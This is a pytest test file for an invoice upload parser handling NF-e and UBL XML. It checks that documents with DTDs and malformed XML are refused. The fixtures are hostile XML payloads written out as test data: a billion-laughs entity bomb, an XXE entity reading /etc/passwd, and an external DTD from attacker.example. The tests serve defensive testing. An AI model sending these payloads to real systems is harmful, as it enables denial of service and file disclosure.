import io
from types import ModuleType

import pytest

from ponte.invoices import FileRejected, ParseOptions, nfe, parse_upload, ubl

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol4;</Invoice>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE nfeProc [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<nfeProc xmlns="http://www.portalfiscal.inf.br/nfe">&secret;</nfeProc>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE NFe SYSTEM "http://attacker.example/nfe.dtd">
<NFe xmlns="http://www.portalfiscal.inf.br/nfe"/>"""


@pytest.mark.parametrize("module", [nfe, ubl])
@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_documents_with_a_dtd_are_refused_by_every_xml_parser(module: ModuleType, document: bytes) -> None:
    with pytest.raises(FileRejected, match="document type declaration"):
        list(module.parse(io.BytesIO(document), options=ParseOptions()))


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_uploads_with_a_dtd_are_refused_before_parsing(document: bytes) -> None:
    with pytest.raises(FileRejected, match="document type declaration"):
        list(parse_upload("invoices/x.xml", io.BytesIO(document), ParseOptions()))


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (b"", "the file is empty"),
        (b"<NFe xmlns='http://www.portalfiscal.inf.br/nfe'><infNFe>", "not well-formed XML"),
        (b"<a><b></a>", "not well-formed XML"),
    ],
)
def test_broken_xml_is_refused_whole(document: bytes, message: str) -> None:
    for module in (nfe, ubl):
        with pytest.raises(FileRejected, match=message):
            list(module.parse(io.BytesIO(document), options=ParseOptions()))
